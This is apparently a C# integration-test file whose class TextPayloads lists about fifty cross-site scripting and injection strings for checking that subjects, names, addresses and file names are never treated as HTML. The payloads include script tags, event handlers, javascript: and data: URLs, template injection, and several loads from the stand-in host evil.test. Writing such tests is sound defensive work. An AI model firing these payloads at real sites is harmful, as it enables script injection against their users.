using System.Globalization;

namespace Facteur.IntegrationTests.Browser.Hostile;

/// <summary>Texts for fields that are no HTML: subjects, names, addresses, file names, media types, calendars (S-15). Wherever one of them is taken for markup, it runs or asks.</summary>
internal static class TextPayloads
{
    private static readonly string[] texts =
    [
        "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "\"><img src=x onerror=alert({n})>", "'><svg onload=alert({n})>", "</title><script>alert({n})</script>", "</textarea><img src=x onerror=alert({n})>", "</option></select><img src=x onerror=alert({n})>", "\" onmouseover=\"alert({n})\" x=\"",
        "' autofocus onfocus='alert({n})", "javascript:alert({n})", "{{constructor.constructor('alert({n})')()}}", "${alert({n})}", "<!--<img src=x onerror=alert({n})>-->", "<style>@import 'https://evil.test/{n}'</style>", "<link rel=stylesheet href=https://evil.test/{n}>", "<iframe srcdoc='<script>alert({n})</script>'>",
        "&lt;img src=x onerror=alert({n})&gt;", "&#60;img src=x onerror=alert({n})&#62;", "%3Cimg%20src=x%20onerror=alert({n})%3E", "\\u003cimg src=x onerror=alert({n})\\u003e", "<img src=https://evil.test/{n}>", "<base href=https://evil.test/{n}>", "<math><mtext><img src=x onerror=alert({n})>", "\u202E<img src=x onerror=alert({n})>", "\u0000<script>alert({n})</script>",
        "`-alert({n})-`", "];alert({n})//", "\");alert({n});(\"", "<a href=javascript:alert({n})>x</a>", "https://evil.test/{n}\" onclick=\"alert({n})", "https://evil.test/'onmouseover='alert({n})", "www.evil.test/<img src=x onerror=alert({n})>", "x@evil.test<img src=x onerror=alert({n})>", "mailto:x@evil.test?body=<script>alert({n})</script>", "data:text/html,<script>alert({n})</script>",
        "#<img src=x onerror=alert({n})>", "__proto__", "constructor", "\uFF1Cscript\uFF1Ealert({n})\uFF1C/script\uFF1E", "\uFEFF<script>alert({n})</script>", "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>", "<details open ontoggle=alert({n})>", "<video src=x onerror=alert({n})>", "<form action=https://evil.test/{n}><button>x</button></form>", "<meta http-equiv=refresh content=0;url=https://evil.test/{n}>",
        "<object data=https://evil.test/{n}>", "\u2028alert({n})\u2029", "<plaintext>", "]]><script>alert({n})</script>", "--></script><script>alert({n})</script>",
    ];

    public static int Count => texts.Length;

    /// <summary>One of them, with a number that tells it from all others.</summary>
    public static string Of(int index, int number) => texts[index % texts.Length].Replace("{n}", number.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
}
